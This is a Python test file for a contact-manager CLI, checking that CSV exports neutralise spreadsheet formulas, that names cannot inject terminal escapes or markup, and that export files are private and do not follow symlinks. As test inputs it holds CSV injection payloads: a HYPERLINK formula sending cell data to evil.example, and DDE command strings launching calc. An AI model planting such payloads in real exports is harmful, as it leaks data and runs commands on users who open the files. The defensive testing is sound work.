"""Issue 27, output that cannot be turned against the user: CSV formula injection, Rich
markup and control characters in names, private atomic export and report files."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from goodwill.safe_text import csv_cell, strip_controls
from tests.helpers import Result

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_TITLE = "+cmd|' /C calc'!A0"
EVIL_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert cell == text or cell == "'" + text
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell)  # only a plain number may keep its sign


@given(st.text())
def test_strip_controls_keeps_tab_and_newline_only(text: str) -> None:
    out = strip_controls(text)
    assert all(ch in "\t\n" or (ord(ch) >= 32 and not 0x7F <= ord(ch) <= 0x9F) for ch in out)
    assert strip_controls(out) == out


def test_numbers_keep_their_sign() -> None:
    assert csv_cell("-0.25") == "-0.25" and csv_cell("+15551234567") == "+15551234567"
    assert csv_cell("-1+2") == "'-1+2" and csv_cell("\t=1") == "'\t=1"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_csv_neutralises_formulas_and_raw_keeps_them(cli: Callable[..., Result]) -> None:
    r = cli("person", "add", EVIL_NAME, "--title", EVIL_TITLE, "--note", EVIL_NOTE,
            "--org", "-2+3")
    assert r.code == 0, r.err
    row = _rows(cli("export", "csv").out)[0]
    assert row["Name"] == "'" + EVIL_NAME
    assert row["Organization Title"] == "'" + EVIL_TITLE
    assert row["Notes"] == "'" + EVIL_NOTE
    assert row["Organization Name"] == "'-2+3"
    raw = _rows(cli("export", "csv", "--raw").out)[0]
    assert raw["Name"] == EVIL_NAME and raw["Notes"] == EVIL_NOTE


def test_format_csv_neutralises_formulas_and_raw_keeps_them(cli: Callable[..., Result]) -> None:
    assert cli("person", "add", EVIL_NAME, "--title", EVIL_TITLE, "--org", "Acme").code == 0
    row = _rows(cli("person", "list", "--format", "csv").out)[0]
    assert row["name"] == "'" + EVIL_NAME
    row = _rows(cli("--raw", "person", "list", "--format", "csv").out)[0]
    assert row["name"] == EVIL_NAME


def test_names_are_text_never_rich_markup(cli: Callable[..., Result]) -> None:
    # 'X [/b]' made `person list` and `person show` fail for the whole database.
    assert cli("person", "add", "X [/b]", "--email", "x@example.com").code == 0
    assert cli("person", "add", "[link=https://evil.example]Bank[/link]").code == 0
    r = cli("person", "list")
    assert r.code == 0, r.err
    assert "X [/b]" in r.out and "[link=https://evil.example]Bank[/link]" in r.out
    r = cli("person", "show", "x@example.com")
    assert r.code == 0, r.err
    assert "X [/b]" in r.out


def test_escape_sequences_never_reach_the_terminal(cli: Callable[..., Result]) -> None:
    assert cli("person", "add", "Eve \x1b]8;;https://evil.example\x07Bob\x1b[2J").code == 0
    r = cli("person", "list")
    assert r.code == 0 and "\x1b" not in r.out and "\x07" not in r.out
    assert "Eve" in r.out


def test_control_characters_are_stripped_on_import(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    card = tmp_path / "eve.vcf"
    card.write_bytes(
        b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Eve \x1b[31mRed\x07\r\nEMAIL:eve@example.com\r\n"
        b"NOTE:line one\\nline\x08 two\r\nEND:VCARD\r\n"
    )
    assert cli("import", "vcard", card).code == 0
    shown = json.loads(cli("person", "show", "eve@example.com", "--format", "json").out)
    assert shown["name"] == "Eve [31mRed"
    assert shown["notes"] == "line one\nline two"


def test_nul_bytes_past_the_first_8_kb_of_a_csv_are_not_stored(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    rows = ["Name,E-mail 1 - Value"]
    rows += [f"Person {i},p{i}@example.com" for i in range(400)]  # well past 8 KB
    rows.append("Nul\x00 Byte,nul@example.com")
    path = tmp_path / "contacts.csv"
    path.write_text("\n".join(rows) + "\n")
    r = cli("import", "google", path)
    assert r.code == 0, r.err
    shown = json.loads(cli("person", "show", "nul@example.com", "--format", "json").out)
    assert shown["name"] == "Nul Byte"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_export_writes_a_private_file_and_refuses_to_overwrite(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    assert cli("person", "add", "Dana Kim").code == 0
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "backup.json"
    assert cli("export", "json", "-o", out).code == 0
    assert _mode(out) == 0o600
    out.write_text("keep me")
    r = cli("export", "json", "-o", out)
    assert r.code == 1 and "already exists" in r.err and "--force" in r.err
    assert out.read_text() == "keep me"
    assert cli("export", "json", "-o", out, "--force").code == 0
    assert json.loads(out.read_text()) and _mode(out) == 0o600
    assert [p.name for p in out.parent.iterdir()] == ["backup.json"]  # no temp file left


def test_export_never_follows_a_symbolic_link(cli: Callable[..., Result], tmp_path: Path) -> None:
    assert cli("person", "add", "Dana Kim").code == 0
    target = tmp_path / "victim.txt"
    target.write_text("victim")
    link = tmp_path / "export.csv"
    link.symlink_to(target)
    r = cli("export", "csv", "-o", link)
    assert r.code == 1 and "symbolic link" in r.err
    assert cli("export", "csv", "-o", link, "--force").code == 0
    assert target.read_text() == "victim"  # the link was replaced, not followed
    assert not link.is_symlink() and "Dana Kim" in link.read_text() and _mode(link) == 0o600


def test_report_writes_a_private_file_and_refuses_to_overwrite(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    out = tmp_path / "r.html"
    r = cli("report", "--weeks", "2", "-o", out)
    assert r.code == 0, r.err
    assert _mode(out) == 0o600
    r = cli("report", "--weeks", "2", "-o", out)
    assert r.code == 1 and "already exists" in r.err
    link = tmp_path / "link.html"
    link.symlink_to(tmp_path / "elsewhere.html")
    r = cli("report", "--weeks", "2", "-o", link)
    assert r.code == 1 and "symbolic link" in r.err
    assert not (tmp_path / "elsewhere.html").exists()
    assert cli("report", "--weeks", "2", "-o", out, "--force").code == 0
    assert os.stat(out).st_mode & 0o077 == 0


def test_the_schedule_calendar_is_private_and_never_follows_a_link(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    target = tmp_path / "victim.txt"
    target.write_text("victim")
    link = tmp_path / "goodwill.ics"
    link.symlink_to(target)
    r = cli("schedule", "--daily", "08:30", "-o", link)
    assert r.code == 0, r.err
    assert target.read_text() == "victim"
    assert not link.is_symlink() and _mode(link) == 0o600
